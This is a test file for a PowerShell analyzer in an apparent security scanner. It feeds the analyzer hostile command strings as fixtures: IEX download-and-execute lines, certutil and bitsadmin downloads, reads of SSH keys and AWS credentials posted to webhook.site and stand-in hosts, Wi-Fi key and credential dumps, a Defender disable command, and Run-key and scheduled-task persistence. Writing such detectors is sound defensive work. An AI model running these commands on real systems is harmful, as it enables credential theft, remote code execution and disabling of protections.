import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { powershellAnalyzer } from '../../../src/scan/analyzers/powershell.ts';
import { collector, ofKind, type Collected } from './shell-collect.ts';

let run: (text: string) => Collected;
before(async () => {
  run = await collector(powershellAnalyzer);
});

const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

const cases: [string, string, Record<string, unknown>[]][] = [
  ['IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a.ps1")', 'download-exec', [{ via: 'iex', host: '203.0.113.9' }]],
  ['iwr https://x.test/s.ps1 -UseBasicParsing | iex', 'download-exec', [{ via: 'iex', host: 'x.test' }]],
  ['Invoke-Expression (irm https://x.test/s.ps1)', 'download-exec', [{ host: 'x.test' }]],
  ['Invoke-WebRequest -Uri https://x.test/p.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe', 'download-exec', [{ via: 'download-then-run', host: 'x.test' }]],
  ['Write-Host "iwr https://x.test | iex"', 'download-exec', []],
  [`powershell -NoProfile -EncodedCommand ${enc('Remove-Item C:\\x')}`, 'decode', [{ encoding: 'utf16le-base64', executed: true, decoded: 'Remove-Item C:\\x' }]],
  ['Invoke-WebRequest -Uri https://x.test/p.exe -OutFile C:\\p.exe', 'download', [{ path: 'C:/p.exe', host: 'x.test' }]],
  ['certutil -urlcache -split -f http://198.51.100.2/x.exe x.exe', 'download', [{ host: '198.51.100.2', path: 'x.exe' }]],
  ['bitsadmin /transfer j http://198.51.100.2/y.exe C:\\y.exe', 'download', [{ host: '198.51.100.2', path: 'C:/y.exe' }]],
  ['Get-Content $env:USERPROFILE\\.ssh\\id_rsa', 'file-read', [{ path: '~/.ssh/id_rsa' }]],
  ['$k = Get-Content "$env:USERPROFILE\\.aws\\credentials"\nInvoke-RestMethod -Uri https://webhook.site/x -Method Post -Body $k', 'network', [{ host: 'webhook.site', method: 'POST', sendsData: true, dataSources: [{ kind: 'file', path: '~/.aws/credentials' }] }]],
  ['$r = ""\nforeach ($p in $names) { $r += netsh wlan show profile name="$p" key=clear | Out-String }\nInvoke-RestMethod -Uri https://x.test/r -Method Post -Body $r', 'network', [{ host: 'x.test', sendsData: true, dataSources: [{ kind: 'keychain' }] }]],
  ['$inv = [ordered]@{\n  user = $env:USERNAME\n  vars = Get-ChildItem Env: | ForEach-Object { "$($_.Name)=$($_.Value)" }\n  saved = (cmdkey /list) -join "`n"\n}\n$body = $inv | ConvertTo-Json\nInvoke-RestMethod -Uri https://x.test/a -Method Post -Body $body', 'network', [{ host: 'x.test', sendsData: true, dataSources: [{ kind: 'keychain' }, { kind: 'env-all' }] }]],
  ['$info = @{\n  host = $env:COMPUTERNAME\n  sdk = (dotnet --list-sdks) -join ","\n}\n$body = $info | ConvertTo-Json\nInvoke-RestMethod -Uri https://x.test/a -Method Post -Body $body', 'network', [{ host: 'x.test', sendsData: true, dataSources: undefined }]],
  ['$c = cmdkey /list\nInvoke-RestMethod -Uri https://x.test/c -Method Post -Body $c', 'network', [{ dataSources: [{ kind: 'keychain' }] }]],
  ['$r = netsh wlan show interfaces\nInvoke-RestMethod -Uri https://x.test/r -Method Post -Body $r', 'network', [{ host: 'x.test', sendsData: true, dataSources: undefined }]],
  ['Set-MpPreference -DisableRealtimeMonitoring $true', 'command', [{ name: 'Set-MpPreference', args: ['-DisableRealtimeMonitoring', '$true'] }]],
  ['# iex (iwr http://x.test)\nGet-Date', 'command', [{ name: 'Get-Date' }]],
  ['schtasks /create /tn u /tr C:\\u.exe /sc onlogon', 'command', [{ name: 'schtasks' }]],
  ['Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value C:\\u.exe', 'file-write', [{ path: 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', content: 'C:\\u.exe' }]],
  ['Get-ChildItem env: | Out-File C:\\e.txt', 'env-dump', [{}]],
  ['echo $env:OPENAI_API_KEY $env:Path', 'env-read', [{ name: 'OPENAI_API_KEY' }, { name: 'Path' }]],
];

describe('powershell analyzer facts', () => {
  for (const [script, kind, expected] of cases) {
    it(`${kind}: ${script.slice(0, 90)}`, () => {
      const facts = ofKind(run(script), kind as never);
      assert.equal(facts.length, expected.length, `got ${JSON.stringify(facts)}`);
      expected.forEach((e, i) => {
        for (const [k, v] of Object.entries(e)) assert.deepEqual(facts[i]![k], v, `${k} of fact ${i}: ${JSON.stringify(facts[i])}`);
      });
    });
  }
  it('analyses -EncodedCommand payloads again as PowerShell', () => {
    const r = run(`pwsh -enc ${enc('iwr http://x.test/b | iex')}`);
    assert.deepEqual(r.nested, [{ text: 'iwr http://x.test/b | iex', lang: 'powershell', line: 1, origin: 'decoded' }]);
  });
});
